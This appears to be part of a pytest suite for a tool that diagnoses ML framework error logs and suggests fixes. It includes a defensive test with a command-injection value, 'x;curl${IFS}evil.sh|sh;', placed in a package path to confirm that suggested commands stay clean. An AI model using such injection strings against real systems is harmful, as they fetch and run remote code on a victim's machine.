    log = f'Traceback (most recent call last):\n  File "/Users/me/app.py", line 3, in <module>\n    x.cuda()\n{line}\n'
    assert _diagnose(log).decided_by == "bad-configuration:cuda_asked_on_a_mac"


@pytest.mark.parametrize(
    ("path", "module", "said"),
    [
        ("C:\\Users\\me\\ComfyUI\\main.py", "triton", "triton-windows<3.3"),
        ("/Users/me/proj/train.py", "triton", "does not run on a Mac"),
        ("/Users/me/proj/train.py", "flash_attn", "sdpa"),
    ],
)
def test_a_module_with_no_build_for_the_log_s_platform_is_not_an_install_away(
    path: str, module: str, said: str
) -> None:
    log = f'Traceback (most recent call last):\n  File "{path}", line 3, in <module>\n    import {module}\n'
    diagnosis = _diagnose(log + f"ModuleNotFoundError: No module named '{module}'\n")
    assert diagnosis.family == "module-not-found" and said in diagnosis.cause
    assert not diagnosis.remediation  # no unpinned install to paste


def test_a_module_missing_on_linux_is_still_installed() -> None:
    log = 'Traceback (most recent call last):\n  File "/home/me/train.py", line 3, in <module>\n    import triton\n'
    diagnosis = _diagnose(log + "ModuleNotFoundError: No module named 'triton'\n")
    assert any("pip install triton" in step for step in diagnosis.remediation)


def test_the_platform_of_a_log_is_read_from_its_paths_and_words() -> None:
    from xladoctor.explain.platforms import platform_of

    assert platform_of("/opt/homebrew/lib/python3.11/site-packages/torch") == "macos"
    assert platform_of("OSError: [WinError 126] The specified module could not be found") == "windows"
    assert (
        platform_of("'C:\\\\Users\\\\me\\\\torch\\\\lib\\\\fbgemm.dll'") == "windows"
    )  # a repr()'s doubled backslashes
    assert platform_of("/home/me/.venv/lib/python3.11/site-packages/torch") is None
    assert platform_of("/Users/me/x and C:\\Users\\me\\y") is None  # both: neither is said


def test_a_complex_dtype_on_mps_is_the_backend_s_gap_even_from_the_user_s_line() -> None:
    """torch.fft's output is complex whatever the caller asked: the calling line has no dtype to change."""
    message = (
        "TypeError: Trying to convert ComplexFloat to the MPS backend but it does not have support for that dtype."
    )
    diagnosis = _diagnose(tb(message))
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("unsupported-op", "framework-bug")
    assert diagnosis.params["dtype"] == "ComplexFloat"


def test_a_web_ui_extension_s_frame_is_a_library_s_not_the_user_s() -> None:
    """AUTOMATIC1111's extensions are projects the user installed, like ComfyUI's custom nodes."""
    log = (
        "Traceback (most recent call last):\n"
        '  File "/Users/me/stable-diffusion-webui/extensions/sd-webui-freeu/lib_free_u/unet.py", line 124, in f\n'
        "    x = torch.tensor(values, device=device)\n"
        "TypeError: Cannot convert a MPS Tensor to float64 dtype as the MPS framework doesn't support float64.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("unsupported-op", "framework-bug")


def test_float64_reaching_metal_is_a_gap_of_the_backend() -> None:
    log = (
        "/AppleInternal/Library/BuildRoots/c2cb/Library/Caches/com.apple.xbs/Sources/MetalPerformanceShadersGraph/"
        "mpsgraph/MetalPerformanceShadersGraph/Core/Files/MPSGraphExecutable.mm:1377: failed assertion `Incompatible "
        "element type for parameter at index 0, mlir module expected element type f64 but received f32'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("unsupported-op", "framework-bug")
    assert "jax_enable_x64" in diagnosis.cause
    other = _diagnose(log.replace("expected element type f64 but received f32", "[MPSNDArray initWithDevice:] Error"))
    assert other is not None and other.family == "framework-internal-error"


def test_tensorflow_s_xla_names_the_ops_it_cannot_compile() -> None:
    log = (
        "InvalidArgumentError: Graph execution error:\n\nDetected unsupported operations when trying to compile graph "
        "__inference_one_step_on_data_44161[]\n on XLA_CPU_JIT: ResizeNearestNeighborGrad \n(No registered "
        "'ResizeNearestNeighborGrad' OpKernel for XLA_CPU_JIT devices compatible with node {{node grad}})\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "unsupported-op"
    assert diagnosis.params["op"] == "ResizeNearestNeighborGrad" and "jit_compile=False" in diagnosis.cause


def test_macos_s_allocator_finding_a_bad_free_is_a_native_crash() -> None:
    log = (
        "python(73214,0x20e465f00) malloc: *** error for object 0x60000398e490: pointer being freed was not allocated\n"
        "python(73214,0x20e465f00) malloc: *** set a breakpoint in malloc_error_break to debug\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "framework-internal-error"
    assert diagnosis.cause.startswith("macOS's allocator")


def test_position_ids_alone_is_the_transformers_release_and_with_other_keys_the_checkpoint() -> None:
    only = 'RuntimeError: Error(s) in loading state_dict for M:\n\tUnexpected key(s) in state_dict: "bert.embeddings.position_ids".'
    diagnosis = _diagnose(tb(only, "torch/nn/modules"))
    assert diagnosis is not None and diagnosis.family == "api-version-skew" and "4.31" in diagnosis.cause
    more = only.replace('"bert.embeddings.position_ids"', '"bert.embeddings.position_ids", "head.weight"')
    other = _diagnose(tb(more, "torch/nn/modules"))
    assert other is not None and other.family == "user-code-error"


def test_stft_called_by_a_library_says_to_upgrade_that_library() -> None:
    log = tb(
        "RuntimeError: stft requires the return_complex parameter be given for real inputs, and will further require "
        "that return_complex=True in a future PyTorch release.",
        "torchlibrosa",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.params.get("library") == "torchlibrosa"
    assert "Upgrade torchlibrosa" in diagnosis.cause


def test_a_kernel_symbol_missing_from_nccl_is_a_build_without_this_gpu() -> None:
    log = (
        "4d1a2ae696c8:50555:50555 [0] enqueue.cc:58 NCCL WARN Cuda failure 'named symbol not found'\n"
        "4d1a2ae696c8:50555:50555 [0] NCCL INFO cudaDriverVersion 12080\nNCCL version 2.14.3+cuda11.8\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("gpu-arch-unsupported", "environment")
    assert diagnosis.params["library"] == "NCCL" and "NVCC_GENCODE" in diagnosis.cause


@pytest.mark.parametrize(
    ("warn", "family", "verdict", "word"),
    [
        # misc/argcheck.cc and enqueue.cc: the arguments of the call
        ("AllReduce : sendbuff allocated on device 0 mismatchs with NCCL device 1", "user-code-error", "not-environment", "torch.cuda.set_device(local_rank)"),
        ("Broadcast : invalid root 8 (root should be in the 0..7 range)", "user-code-error", "not-environment", "root rank"),
        ("Trying to send to self without a matching recv", "user-code-error", "not-environment", "send/recv to self"),
        # bootstrap.cc: the launch's settings
        ("Bootstrap Root : rank 3 of 8 ranks has already checked in", "bad-configuration", "environment", "RANK"),
        ("Bootstrap Root : mismatch in info from procs, nranks 8 vs 16, nroots 1 vs 1, iroot 0 vs 0, offset 0 ", "bad-configuration", "environment", "WORLD_SIZE"),
        ("no device found matching =eth9, verify NCCL_OOB_NET_IFNAME", "nccl-network", "environment", "NCCL_OOB_NET_IFNAME"),
        ("Net : No valid <IPv4_or_hostname>:<port> pair found", "bad-configuration", "environment", "NCCL_COMM_ID"),
        ("Could not open XML graph file /etc/nccl/graph.xml : No such file or directory", "bad-configuration", "environment", "NCCL_GRAPH_FILE"),
        ("FP8 reduction support begins with sm90 capable devices.", "gpu-arch-unsupported", "environment", "sm_90"),
        ("Invalid device 3 (totalnDev=2)", "bad-configuration", "environment", "CUDA_VISIBLE_DEVICES"),
        ("Invalid rank requested : 8/8", "bad-configuration", "environment", "WORLD_SIZE"),
        ("Detected mixed local CollNet device counts across ranks (min 1, max 2). Set NCCL_IGNORE_NET_MISMATCH=1 to continue", "bad-configuration", "environment", "NCCL_IGNORE_NET_MISMATCH"),
        ("XML Topology has wrong version 1, 2 needed", "bad-configuration", "environment", "NCCL_TOPO_FILE"),
        ("One-sided RMA requires CUDA driver 12.5 or later (found 12.2).", "cuda-driver-too-old", "environment", "CUDA 12.5"),
    ],
)  # fmt: skip
def test_nccl_s_own_checks_of_a_call_and_a_launch_name_whose_they_are(
    warn: str, family: str, verdict: str, word: str
) -> None:
    """Each WARN text as NCCL's source prints it (NVIDIA/nccl, src/), on a rank's line."""
    diagnosis = _diagnose(f"node1:123:456 [0] init.cc:1 NCCL WARN {warn}\nnode1:123:456 [0] NCCL INFO init.cc:2 -> 4\n")
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (family, verdict), diagnosis
    said = " ".join([diagnosis.cause, *map(str, diagnosis.params.values())])
    assert word in said, said
    for command in diagnosis.next:
        _assert_pastes_safely(command)


@pytest.mark.parametrize(
    "error",
    [
        "RuntimeError: Unknown backend gpu. Available backends are ['cpu']",
        "RuntimeError: Backend 'cuda' is not in the list of known backends: ['cpu', 'tpu'].",
        "RuntimeError: Could not initialize backend 'cuda'",
        "RuntimeError: Backend 'cuda' provides no devices.",
    ],
)
def test_jax_s_own_words_for_a_backend_it_does_not_have(error: str) -> None:
    """jax/_src/xla_bridge.py's texts when the backend asked for is missing or empty: the CUDA plugin."""
    diagnosis = _diagnose(tb(error, "jax/_src"))
    assert diagnosis is not None and diagnosis.decided_by == "accelerator-unavailable:jax_sees_no_accelerator"
    assert "jax[cuda12]" in diagnosis.cause


def test_a_rank_that_sent_no_parameter_count_is_a_straggler_not_another_model() -> None:
    """DDP's all-gather of the ranks' parameter counts leaves 0 for a rank whose part never came."""
    log = tb(
        "RuntimeError: DDP expects same model across all ranks, but Rank 1 has 221 params, while rank 0 has "
        "inconsistent 0 params.",
        "torch/nn/parallel",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("hang-timeout", "unknown")
    assert diagnosis.params["rank"] == "0" and "straggling" in diagnosis.cause


def test_a_triton_kernel_too_big_for_shared_memory_is_blamed_on_whoever_chose_its_blocks() -> None:
    said = "triton.runtime.errors.OutOfResources: out of resource: shared memory, Required: {need}, Hardware limit: 101376. Reducing block sizes or `num_stages` may help."
    through_a_library = TB + LIB.format(pkg="vllm/attention") + LIB.format(pkg="triton/runtime")
    tuned_bigger = _diagnose(through_a_library + said.format(need=163842) + "\n")
    assert (tuned_bigger.family, tuned_bigger.verdict) == ("framework-internal-error", "framework-bug")
    no_gpu_fits = _diagnose(through_a_library + said.format(need=1048576) + "\n")
    assert no_gpu_fits.verdict == "framework-bug" and "no GPU runs it" in no_gpu_fits.cause, no_gpu_fits.cause
    # the user's own line launched the kernel (`kernel[grid](...)` right above Triton's frames): their block sizes
    launched = TB.replace("    main()", "    matmul_kernel[grid](a, b, c, BLOCK=256)") + LIB.format(
        pkg="triton/runtime"
    )
    yours = _diagnose(launched + said.format(need=163842) + "\n")
    assert (yours.family, yours.verdict) == ("user-code-error", "not-environment"), yours.cause
    assert "/home/me/train.py:10" in yours.cause
    # a grid given as a lambda that indexes its meta-parameters is still the user's launch
    lam = TB.replace("    main()", "    matmul_kernel[lambda META: (triton.cdiv(M, META['BLOCK_M']),)](a, b, c)")
    assert (
        _diagnose(lam + LIB.format(pkg="triton/runtime") + said.format(need=163842) + "\n").family == "user-code-error"
    )
    # a frame outside site-packages that only calls a function (a library run from its checkout) launched nothing
    called = _diagnose(TB + LIB.format(pkg="triton/runtime") + said.format(need=163842) + "\n")
    assert called.verdict == "framework-bug", called.cause
    newer = _diagnose(
        through_a_library
        + "triton.runtime.errors.OutOfResources: shared memory, Required: 98304, Hardware limit: 65536\n"
    )
    assert newer.family == "framework-internal-error" and "98304" in newer.cause, newer.cause


def test_a_package_written_for_another_python_is_read_only_where_the_syntax_or_the_path_says_so() -> None:
    py2 = 'Traceback (most recent call last):\n  File "/home/me/run.py", line 1, in <module>\n    import oldlib\n  File "/opt/venv/lib/python3.11/site-packages/oldlib/__init__.py", line 3\n    print "hello"\n    ^^^^^^^^^^^^^\nSyntaxError: Missing parentheses in call to \'print\'. Did you mean print(...)?\n'
    written = _diagnose(py2)
    assert written.decided_by == "version-mismatch:package_for_another_python" and "Python 2" in written.cause
    # a SyntaxError in the user's own file, or in code a library compiles (no import above it): not a Python version
    mine = 'Traceback (most recent call last):\n  File "/home/me/run.py", line 3\n    match kind:\n          ^\nSyntaxError: invalid syntax\n'
    assert _diagnose(mine) is None or _diagnose(mine).decided_by != "version-mismatch:package_for_another_python"
    compiled = (
        TB
        + LIB.format(pkg="torch/jit")
        + '  File "/opt/venv/lib/python3.11/site-packages/mylib/core.py", line 9\n    x = = 1\n        ^\nSyntaxError: invalid syntax\n'
    )
    assert _diagnose(compiled).decided_by != "version-mismatch:package_for_another_python"
    # the syntax of a newer Python on a Python that has it is no version problem; nor is `x[0]` on a class
    new_enough = (
        TB
        + '  File "/opt/venv/lib/python3.11/site-packages/lib/a.py", line 5, in f\n    def f(x: int | None = None):\n'
        + "TypeError: unsupported operand type(s) for |: 'type' and 'NoneType'\n"
    )
    assert _diagnose(new_enough).decided_by != "version-mismatch:newer_python_type_syntax"
    indexing = TB + LIB.format(pkg="lib/a") + "TypeError: 'type' object is not subscriptable\n"
    assert _diagnose(indexing).decided_by != "version-mismatch:newer_python_type_syntax"
    union = (
        TB
        + '  File "/usr/lib/python3.9/site-packages/lib/a.py", line 5, in <module>\n    def f(x: int | None = None):\n'
        + "TypeError: unsupported operand type(s) for |: 'type' and 'NoneType'\n"
    )
    assert "Python 3.10 or newer" in _diagnose(union).cause

    # loaded lazily (transformers' _LazyModule: importlib.import_module), past importlib's own frames
    lazy = 'Traceback (most recent call last):\n  File "/home/me/run.py", line 3, in <module>\n    from transformers import NewModel\n  File "/usr/lib/python3.8/site-packages/transformers/utils/import_utils.py", line 1500, in _get_module\n    return importlib.import_module("." + module_name, self.__name__)\n  File "/usr/lib/python3.8/importlib/__init__.py", line 127, in import_module\n    return _bootstrap._gcd_import(name[level:], package, level)\n  File "/usr/lib/python3.8/site-packages/transformers/models/new/modeling_new.py", line 40\n    match kind:\n          ^\nSyntaxError: invalid syntax\n'
    assert _diagnose(lazy).decided_by == "version-mismatch:package_for_another_python"

    # a decimal or a date is no Python 2 octal; async as a name is a package older than Python 3.7
    def syntax(code: str, folder: str = "mylib") -> str:
        return f'Traceback (most recent call last):\n  File "/home/me/run.py", line 1, in <module>\n    import mylib\n  File "/usr/lib/python3.9/site-packages/{folder}/core.py", line 12\n    {code}\n    ^\nSyntaxError: invalid syntax\n'

    assert "Python 2" not in _diagnose(syntax('case {"lr": 0.01, "day": "2024-01-05"}:')).cause
    assert "Python 3.7 made keywords" in _diagnose(syntax("def expect(self, pattern, async=False):")).cause
    # a package's name is a path's part: it reaches a command only when it is a plain name
    hostile = _diagnose(syntax("match kind:", folder="x;curl${IFS}evil.sh|sh;"))
    assert all("curl" not in step for step in hostile.next), hostile.next
    # a line shown that is no type syntax decides, whatever the path says
    shown = (
        TB
        + '  File "/usr/lib/python3.8/site-packages/lib/a.py", line 5, in get\n    return self.kind[key]\n'
        + "TypeError: 'type' object is not subscriptable\n"
    )
    assert _diagnose(shown).decided_by != "version-mismatch:newer_python_type_syntax"
    # Python's own operand error is no op a backend lacks
    operand = _diagnose(
        TB
        + LIB.format(pkg="transformers/trainer")
        + "TypeError: unsupported operand type(s) for +: 'NoneType' and 'int'\n"
    )
    assert operand.family != "unsupported-op", operand.decided_by


def test_the_hub_refusing_a_token_or_a_rate_is_told_apart_from_a_repository_not_found() -> None:
    token = _diagnose(
        tb(
            "huggingface_hub.errors.HfHubHTTPError: 401 Client Error: Unauthorized for url: https://huggingface.co/api/whoami-v2 (Request ID: Root=1-6)",
            "huggingface_hub/utils/_http",
        )
    )
    assert token.family == "bad-configuration" and "refused this process's credentials" in token.cause
    limit = _diagnose(
        tb(
            "huggingface_hub.errors.HfHubHTTPError: 429 Client Error: Too Many Requests for url: https://huggingface.co/api/models/a/b",
            "huggingface_hub/utils/_http",
        )
    )
    assert "too many requests" in limit.cause
    xet = _diagnose(
        tb(
            "huggingface_hub.errors.HfHubHTTPError: 429 Client Error: Too Many Requests for url: https://cas-bridge.xethub.hf.co/xet-bridge-us/abc",
            "huggingface_hub/utils/_http",
        )
    )
    assert "too many requests" in xet.cause
    odd = _diagnose(
        tb(
            "huggingface_hub.errors.RepositoryNotFoundError: 401 Client Error.\nRepository Not Found for url: https://huggingface.co/--force/x/resolve/main/a.json.",
            "huggingface_hub/utils/_http",
        )
    )
    assert "hf download OWNER/MODEL" in " ".join(odd.next)  # an id that could be an option never reaches a command
    dataset = _diagnose(
        tb(
            "huggingface_hub.errors.RepositoryNotFoundError: 401 Client Error.\nRepository Not Found for url: https://huggingface.co/api/datasets/me/private-ds/revision/main.",
            "huggingface_hub/utils/_http",
        )
    )
    assert "hf download me/private-ds --repo-type dataset" in " ".join(dataset.next)
    bare = _diagnose(
        tb(
            "huggingface_hub.errors.RepositoryNotFoundError: 401 Client Error.\nRepository Not Found for url: https://huggingface.co/bert-base-uncasedd/resolve/main/config.json.",
            "huggingface_hub/utils/_http",
        )
    )
    assert "bert-base-uncasedd is not found" in bare.cause or "bert-base-uncasedd" in " ".join(bare.next)
    tf = _diagnose(
        tb(
            "tensorflow.python.framework.errors_impl.InvalidArgumentError: Cannot assign a device for operation Adam: Could not satisfy explicit device specification '/device:GPU:0' because no supported kernel for GPU devices is available.",
            "tensorflow/python/eager",
        )
    )
    assert tf.decided_by == "unsupported-op:no_kernel_for_the_node" and "soft_device_placement" in tf.cause


def test_an_nccl_info_line_is_context_not_the_failure_of_its_log() -> None:
    info = "node1:1234:1300 [0] NCCL INFO NET/IB : No device found.\nnode1:1234:1300 [0] NCCL INFO NET/Socket : Using [0]eth0:10.0.0.1<0>\n"
    assert _diagnose(info).family == "nccl-infiniband"  # alone, the missing HCA is all the log says
    timeout = "[E ProcessGroupNCCL.cpp:475] [Rank 0] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=1, OpType=ALLREDUCE, NumelIn=1, NumelOut=1, Timeout(ms)=1800000) ran for 1800343 milliseconds before timing out.\n"
    assert _diagnose(info + timeout).family == "hang-timeout"  # every machine without InfiniBand prints that line


def test_an_attribute_a_release_removed_names_that_release_and_the_codes_spelling() -> None:
    # TensorFlow 2.16.1's release notes: "The tf.estimator API is removed"
    removed = _diagnose(
        TB.replace("    main()", "    model = tf.estimator.DNNClassifier(hidden_units=[64])")
        + "AttributeError: module 'tensorflow' has no attribute 'estimator'\n"
    )
    assert (
        removed.family == "api-version-skew" and "removed in 2.16" in removed.cause and "tf.estimator" in removed.cause
    )
    assert removed.remediation == ("python -m pip install 'tensorflow<2.16'",)
    other = _diagnose(TB + "AttributeError: module 'tensorflow' has no attribute 'placeholder'\n")
    assert other.family == "api-version-skew" and "removed in" not in other.cause


def test_an_ipython_8_traceback_pasted_without_its_header_still_has_its_frames() -> None:
    # Jupyter, Colab and Kaggle print "Cell In[N], line M" and "File PATH:LINE, in f(...)"; a paste often starts there
    cell = "Cell In[15], line 2\n      1 # Build the model\n----> 2 model = tf.estimator.DNNClassifier(\n      3     hidden_units=[64, 32])\n\nAttributeError: module 'tensorflow' has no attribute 'estimator'\n"
    assert "tf.estimator in the code" in _diagnose(cell).cause
    # a paste that starts at a library's frame ("File ~/x.py:116, in Linear.forward(...)"), methods named with class
    library = "File ~/venv/lib/python3.10/site-packages/torch/nn/modules/linear.py:116, in Linear.forward(self, input)\n    115 def forward(self, input: Tensor) -> Tensor:\n--> 116     return F.linear(input, self.weight, self.bias)\n\nRuntimeError: mat1 and mat2 shapes cannot be multiplied (4x3 and 5x2)\n"
    assert _diagnose(library).params.get("stack") == "torch"


def test_the_standard_library_is_never_pip_installed() -> None:
    # What's New in Python 3.12: imp removed; PEP 632: distutils removed (setuptools ships one)
    imp = _diagnose(TB + LIB.format(pkg="oldlib/loader") + "ModuleNotFoundError: No module named 'imp'\n")
    assert imp.family == "version-mismatch" and "Python 3.12" in imp.cause and not imp.remediation
    distutils = _diagnose(TB + LIB.format(pkg="oldlib/setup") + "ModuleNotFoundError: No module named 'distutils'\n")
    assert distutils.remediation == ("python -m pip install setuptools",)
    gone = _diagnose(
        TB + LIB.format(pkg="oldlib/util") + "AttributeError: module 'collections' has no attribute 'Iterable'\n"
    )
    assert gone.family == "api-version-skew" and "standard library" in gone.cause
    assert not any("pip" in step for step in (*gone.remediation, *gone.next)), gone.next


def test_a_name_that_is_no_project_never_reaches_pip() -> None:
    # `_lzma` once became `pip install -lzma`, an option to pip; it is a Python built without liblzma
    lzma = _diagnose(TB + "ModuleNotFoundError: No module named '_lzma'\n")
    assert lzma.family == "missing-library" and "liblzma-dev" in lzma.cause and not lzma.remediation
    odd = _diagnose(TB + "ModuleNotFoundError: No module named '_private_thing'\n")
    assert not any(" -" in step.split("install", 1)[-1][:3] for step in odd.remediation), odd.remediation


def test_a_double_star_inside_a_name_is_the_users_pattern_not_datasets() -> None:
    said = "ValueError: Invalid pattern: '**' can only be an entire path component\n"
    mine = TB.replace("    main()", '    ds = load_dataset("parquet", data_files="data/**.parquet")')
    assert _diagnose(mine + LIB.format(pkg="fsspec/utils") + said).family == "user-code-error"
    whole = TB.replace("    main()", '    ds = load_dataset("parquet", data_files="data/**/*.parquet")')
    assert _diagnose(whole + LIB.format(pkg="fsspec/utils") + said).family == "api-version-skew"


def test_a_shape_of_another_rank_than_the_engines_profile_is_the_layout_not_the_length() -> None:
    # a padded batch fed to an engine built for packed inputs: no larger limit helps
    log = "ValueError: Couldn't assign input_ids with shape torch.Size([1, 20]), engine supports [min, opt, max] = [(1,), (1024,), (2048,)]\n"
    diagnosis = _diagnose(log)
    assert diagnosis.family == "bad-configuration" and "remove_input_padding" in diagnosis.cause, diagnosis


def test_keras_3s_lambda_error_in_its_traceback_reads_the_paragraph_after_the_wrapper() -> None:
    # Keras 3 prints the layer's error after "Exception encountered when calling Lambda.call()." and a blank line
    log = (
        'Traceback (most recent call last):\n  File "/home/me/model.py", line 40, in build\n'
        "    x = layers.Lambda(lambda t: K.expand_dims(t, -1))(inputs)\n"
        '  File "/opt/venv/lib/python3.11/site-packages/keras/src/layers/core/lambda_layer.py", line 95, in compute_output_shape\n'
        "    raise NotImplementedError(\n"
        "NotImplementedError: Exception encountered when calling Lambda.call().\n\n"
        "We could not automatically infer the shape of the Lambda's output. Please specify the `output_shape` argument for this Lambda layer.\n\n"
        "Arguments received by Lambda.call():\n  \u2022 args=('<KerasTensor shape=(None, 10), dtype=float32, sparse=False, name=keras_tensor>',)\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis.decided_by == "api-version-skew:keras_3" and diagnosis.verdict == "environment", diagnosis


def test_keras_3s_lambda_error_without_keras_2_code_shown_blames_nothing_yet() -> None:
    # raised from a bare except around the function: the function's own error ends the same way
    log = "NotImplementedError: Exception encountered when calling Lambda.call().\n\nWe could not automatically infer the shape of the Lambda's output. Please specify the `output_shape` argument for this Lambda layer.\n"
    diagnosis = _diagnose(log)
    assert diagnosis.decided_by == "api-version-skew:keras_3" and diagnosis.verdict == "unknown", diagnosis


@pytest.mark.parametrize(
    "log",
    [
        # an application that says so and goes on (offloading layers), an informational line: no failure
        "Not enough GPU memory for all layers, offloading 12 layers to CPU.\nDone. 512 tokens in 3.2 s\n",
        "  Config: small only (gpt-oss-20b) - not enough VRAM for large model\nModel loaded\nServer listening on :8080\n",
    ],
)
def test_words_of_too_little_vram_that_the_program_went_on_from_are_no_out_of_memory(log: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.family != "out-of-memory", diagnosis


def test_xlas_version_warning_of_nvjitlink_is_no_ptxas_reading() -> None:
    # XLA says the same of nvJitLink (whose patch version it cannot read) and of nvPTXCompiler: other fixes
    log = (
        "E0000 00:00:1758870517.195873 3168446 ptx_compiler_helpers.cc:88] *** WARNING *** Invoking nvJitLink with "
        "version 12.6.0, which corresponds to a CUDA version <=12.6.2. CUDA versions 12.x.y up to and including 12.6.2 "
        "miscompile certain edge cases around clamping.\nPlease upgrade to CUDA 12.6.3 or newer.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "version-mismatch:ptxas_miscompiles_clamping", diagnosis


def test_a_method_named_init_is_no_constructor_markdown_ate() -> None:
    # Flax's Module.init, called so in the code shown: Python prints "Module.init()" for it
    log = (
        'Traceback (most recent call last):\n  File "/home/me/t.py", line 9, in <module>\n'
        "    params = model.init(rng, x, deterministic=True)\n"
        "TypeError: Module.init() got an unexpected keyword argument 'deterministic'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by != "api-version-skew:constructor_parameter_history"
    assert "Module.init()" in diagnosis.cause, diagnosis.cause


@pytest.mark.parametrize(
    ("library", "family"),
    [
        # a build from a source checkout linked with an LLVM that lacks a target (triton-lang/triton#3782)
        ("/home/me/triton/python/triton/_C/libtriton.so", "build-failure"),
        # a wheel's library: another release's, as for any namespace
        ("/opt/venv/lib/python3.11/site-packages/triton/_C/libtriton.so", "undefined-symbol"),
    ],
)
def test_an_llvm_symbol_missing_from_a_source_build_is_its_llvm_build(library: str, family: str) -> None:
    diagnosis = _diagnose(f"ImportError: {library}: undefined symbol: LLVMInitializeSparcTarget\n")
    assert diagnosis.family == family and "LLVM" in diagnosis.cause, diagnosis


@pytest.mark.parametrize(
    ("library", "symbol"),
    [
        # a system library that links LLVM (Mesa's driver): a distribution's package, no build of the user's
        ("/usr/lib/x86_64-linux-gnu/dri/radeonsi_dri.so", "LLVMInitializeAMDGPUTargetInfo"),
        # llvmlite's own exports are llvmlite's, not LLVM's
        ("/home/me/llvmlite/build/libllvmlite.so", "LLVMPY_GetHostCPUFeatures"),
    ],
)
def test_an_llvm_like_symbol_outside_a_source_build_of_llvm_users_is_no_llvm_build(library: str, symbol: str) -> None:
    diagnosis = _diagnose(f"OSError: {library}: undefined symbol: {symbol}\n")
    assert diagnosis.family == "undefined-symbol", diagnosis


def test_a_list_asked_for_a_mappings_keys_is_no_tensor_reading() -> None:
    # a library that now returns a list where it returned a dict reads the same: left to the other readings
    diagnosis = _diagnose(tb("AttributeError: 'list' object has no attribute 'keys'", "somelib"))
    assert diagnosis is None or diagnosis.decided_by != "user-code-error:container_where_a_tensor_was_expected"


def test_a_distributions_value_out_of_its_support_without_nan_is_a_range_not_a_divergence() -> None:
    log = tb(
        "ValueError: Expected parameter scale (Tensor of shape (4,)) of distribution Normal(loc: torch.Size([4]), scale: torch.Size([4])) to satisfy the constraint GreaterThan(lower_bound=0.0), but found invalid values:\ntensor([ 0.1000, -0.2000,  0.3000,  0.4000])",
        "torch/distributions",
    )
    diagnosis = _diagnose(log)
    assert diagnosis.decided_by == "user-code-error:distribution_given_invalid_values", diagnosis
    assert "negative scale" in diagnosis.cause and "NaN" not in diagnosis.cause, diagnosis.cause


def test_a_tuple_a_librarys_code_asked_for_a_tensors_method_is_left_to_the_librarys_reading() -> None:
    log = (
        'Traceback (most recent call last):\n  File "/home/me/run.py", line 30, in <module>\n    out = pipe(prompt)\n'
        '  File "/opt/venv/lib/python3.11/site-packages/somepkg/pipeline.py", line 88, in __call__\n'
        "    h = self.encoder(ids).to(self.device)\nAttributeError: 'tuple' object has no attribute 'to'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis.decided_by != "user-code-error:container_where_a_tensor_was_expected", diagnosis


def test_another_rank_of_an_input_no_padding_packs_is_no_layout_reading() -> None:
    # a prompt-tuning input (TensorRT-LLM#341): neither a length nor remove_input_padding
    log = "ValueError: Couldn't assign tasks with shape torch.Size([1, 1, 1]), engine supports [min, opt, max] = [(1, 1), (20, 1), (40, 1)]\n"
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "user-code-error:outside_the_engines_profile", diagnosis


def test_a_config_constructor_markdown_ate_is_read_as_a_config_of_another_release() -> None:
    diagnosis = _diagnose("TypeError: MyFooConfig.init() got an unexpected keyword argument 'foo_bar'\n")
    assert "configuration saved by a newer release" in diagnosis.cause, diagnosis.cause


def test_keras_2s_lambda_shape_error_is_no_keras_3_reading() -> None:
    # tf.keras's own words (tensorflow/python/keras/layers/core.py): a Lambda of Keras 2, no other release's code
    log = tb(
        "NotImplementedError: We could not automatically infer the shape of the Lambda's output. Please specify `output_shape` for this Lambda.",
        "keras/layers",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "api-version-skew:keras_3", diagnosis


def test_nccl_shm_growth_refused_without_its_path_is_still_dev_shm() -> None:
    # NCCL 2.9's words (NVIDIA/nccl#290): the segment's path is on another line, or none
    log = "gpu2:2143:2561 [1] include/shm.h:28 NCCL WARN Call to posix_fallocate failed : No space left on device\ngpu2:2143:2561 [1] NCCL INFO include/shm.h:41 -> 2\n"
    assert _diagnose(log).family == "nccl-shm"


@pytest.mark.parametrize(
    ("log", "rule_id", "word"),
    [
        ("[1]  + 12345 segmentation fault  python generate.py\n", "framework-internal-error:native_crash_words", "SIGSEGV"),
        (tb("ValueError: Pointer argument (at 0) doesn't reference XPU device memory (cpu tensor?)", "triton/backends/intel/driver"), "user-code-error:triton_pointer", ".to('xpu')"),
        (tb("jax.errors.TracerArrayConversionError: The numpy.ndarray conversion method __array__() was called on traced array with shape float64[]", "jax/_src/core"), "user-code-error:shapes_and_devices", "use jax.numpy"),
        # Keras 3's Lambda that cannot run its function on symbolic tensors (Keras 2's words differ: see the test below)
        ("NotImplementedError: Exception encountered when calling Lambda.call().\n\nWe could not automatically infer the shape of the Lambda's output. Please specify the `output_shape` argument for this Lambda layer.\n", "api-version-skew:keras_3", "keras.ops"),
        # alloc_cpu.cpp's Windows words with the allocator's name cut off: the page file
        ("not enough memory: you tried to allocate 9437184 bytes\n", "out-of-memory:memory_of_a_kind", "page file"),
        (tb("ValueError: The layer sequential has never been called and thus has no defined input.", "keras/src/ops/operation"), "api-version-skew:keras_3", "keras.Input"),
